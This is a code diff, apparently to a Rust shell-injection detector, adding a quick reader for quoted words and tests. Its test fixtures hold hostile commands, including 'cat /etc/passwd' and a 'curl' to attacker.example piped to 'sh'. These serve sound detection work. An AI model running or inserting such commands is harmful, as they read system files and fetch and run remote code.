@@ -836,6 +836,44 @@ fn word_until(s: &str, mut i: usize, buf: &mut String, head: bool) -> (Option<()
     (if buf.is_empty() { None } else { Some(()) }, i)
 }
 
+/// What `word_until(s, i, _, true)` reads from `i`, for a word of ASCII bytes that starts with
+/// a quote and has no escape or expansion outside quotes: written to `out`, and its length
+/// returned. `None` for any other word (read in full by `word_until`).
+fn quoted_head(b: &[u8], mut i: usize, out: &mut [u8; NAME_CAP + 1]) -> Option<usize> {
+    if !matches!(b.get(i), Some(b'\'' | b'"')) {
+        return None;
+    }
+    let mut len = 0;
+    let mut q: Option<u8> = None;
+    while i < b.len() && len < out.len() {
+        let c = b[i];
+        if !c.is_ascii() {
+            return None;
+        }
+        match q {
+            Some(open) if c == open => q = None,
+            // Quoted text is taken as it is; in the head, up to its first space.
+            Some(_) if c == b' ' => break,
+            Some(_) => {
+                out[len] = c;
+                len += 1;
+            }
+            None => match c {
+                b'\'' | b'"' => q = Some(c),
+                b'\\' | b'$' => return None,
+                b' ' | b'\t' | b'\r' | b'\n' | b';' | b'|' | b'&' | b'`' | b'(' | b')' | b'<'
+                | b'>' => break,
+                _ => {
+                    out[len] = c;
+                    len += 1;
+                }
+            },
+        }
+        i += 1;
+    }
+    Some(len)
+}
+
 /// Quoted text from `i` (inside `open` quotes): where it ends, and whether the closing quote
 /// is there. Characters that start before `limit` are read.
 fn quoted_run(s: &str, i: usize, open: u8, limit: usize) -> (usize, bool) {
@@ -980,13 +1018,6 @@ fn in_context_reading(
                     .all(|c| c.is_ascii_alphanumeric() || matches!(c, b'_' | b'-' | b'/' | b'.'));
             return strict_hit.then_some(at);
         }
-        // What follows reads the word (through quotes, braces and escapes) and the argument
-        // after it: a judgment, which the allowance counts. The cheap dismissals above read
-        // only the operator's own plain word, so they cost nothing from it.
-        if !allowance.take() {
-            stopped = true;
-            return Some(usize::MAX);
-        }
         // A plain word that ends where a shell word ends (`;cat;`) is the command word as the
         // shell reads it: nothing to unquote, expand or read again.
         let whole_plain = shortcuts
@@ -1008,6 +1039,37 @@ fn in_context_reading(
                         | b'>'
                 )
             );
+        // After a newline in text (words came before it), only a dangerous command counts:
+        // one of any other shape is told from its plain name, as the judgment would tell it.
+        // A script has a command on most lines.
+        if whole_plain
+            && !strict
+            && sep == Sep::Newline
+            && words_before
+            && plain_shape.is_some_and(|shape| shape != Shape::Dangerous)
+        {
+            return None;
+        }
+        // A word that starts with a quote and holds no escape or expansion (`"e",` in a list
+        // of strings, one per line) names no command more often than not: told from its
+        // bytes, as `word_until` would read its head, at the cost of a plain word.
+        if shortcuts && !strict && plain_len == 0 {
+            let mut head = [0u8; NAME_CAP + 1];
+            if let Some(len) = quoted_head(b, start, &mut head) {
+                let head = &head[..len];
+                let named = std::str::from_utf8(head).ok().and_then(command);
+                if head.first() != Some(&b'/') && (len > NAME_CAP || named.is_none()) {
+                    return None;
+                }
+            }
+        }
+        // What follows reads the word (through quotes, braces and escapes) and the argument
+        // after it: a judgment, which the allowance counts. The cheap dismissals above read
+        // only the operator's own plain word, so they cost nothing from it.
+        if !allowance.take() {
+            stopped = true;
+            return Some(usize::MAX);
+        }
         let (next, expanded, glob_path, shape) = if whole_plain {
             cmd.clear();
             cmd.push_str(plain);
@@ -1514,6 +1576,9 @@ mod tests {
             "WHOAMI",
             "abcdefghijklmnopqrstuvwxyz",
             "0123456789",
+            // Lines of text that run a command, dangerous or not.
+            "a b\nsh -c ",
+            "a b\nmake -j ",
         ];
         let mut hits = 0;
         for v in crate::detect::pieces_joined(PIECES, 3, 30_000, 58) {
@@ -1532,6 +1597,50 @@ mod tests {
         }
         // The generated values reach the judgments, not only the scan.
         assert!(hits > 5_000, "{hits}");
+    }
+
+    #[test]
+    fn a_quoted_head_is_read_as_word_until_reads_it() {
+        const PIECES: &[&str] = &[
+            "'",
+            "\"",
+            "a",
+            "cat",
+            " ",
+            "\t",
+            ";",
+            ",",
+            "/",
+            "\\",
+            "$",
+            "$@",
+            "é",
+            "(",
+            "x",
+            "\n",
+            "#",
+            "{",
+            "abcdefghijklmnopqrstuvwxyz",
+        ];
+        let mut read = 0;
+        for v in crate::detect::pieces_joined(PIECES, 11, 20_000, 59) {
+            let b = v.as_bytes();
+            for i in (0..b.len()).filter(|&i| matches!(b[i], b'\'' | b'"')) {
+                let mut head = [0u8; NAME_CAP + 1];
+                if let Some(len) = quoted_head(b, i, &mut head) {
+                    read += 1;
+                    let mut whole = String::new();
+                    let (some, _) = word_until(&v, i, &mut whole, true);
+                    let whole = if some.is_some() {
+                        whole.as_bytes()
+                    } else {
+                        b""
+                    };
+                    assert_eq!(&head[..len], whole, "{v:?} at {i}");
+                }
+            }
+        }
+        assert!(read > 20_000, "{read}");
     }
 
     #[test]
@@ -1642,6 +1751,9 @@ mod tests {
             "```\nok\n``` ; cat /etc/passwd",
             // What a documented command line does not do.
             "aws s3 ls $(curl -s http://attacker.example/x | sh)",
+            // After a newline in text, a dangerous command with a shell's argument.
+            "Thanks for the report.\nls -la\ncurl -s -o /tmp/x attacker.example",
+            "see below\ncd /srv\nsh -c id",
         ] {
             assert!(hit(v), "missed: {v}");
         }
